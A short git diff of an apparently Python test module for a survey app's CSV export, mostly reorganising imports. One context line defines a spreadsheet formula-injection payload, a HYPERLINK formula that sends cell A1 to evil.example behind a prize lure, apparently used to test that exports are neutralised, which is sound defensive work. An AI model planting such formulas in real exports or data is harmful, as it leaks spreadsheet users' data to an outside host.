@@ -17,11 +17,11 @@ from sqlmodel import Session, select
 from api.exports.cells import BOM, Table, csv_chunks, inert
 from api.exports.responses import pseudonym, response_columns, response_rows
 from api.settings import Settings
-from survey.models import AuditEvent, Response, Wave
-from survey.questionnaire import load_default
-from survey.responses import submit_response
-from tests.api.staff import bearer, seed_staff, store_snapshot
-from tests.factories import complete_answers, new_client_id, seed_minimal
+from survey.questionnaire.model import load_default
+from survey.storage.models import AuditEvent, Response, Wave
+from survey.storage.responses import submit_response
+from tests.support.factories import complete_answers, new_client_id, seed_minimal
+from tests.support.staff import bearer, seed_staff, store_snapshot
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
 BIG_GRID, SMALL_GRID = "幸福网格", "三号院"
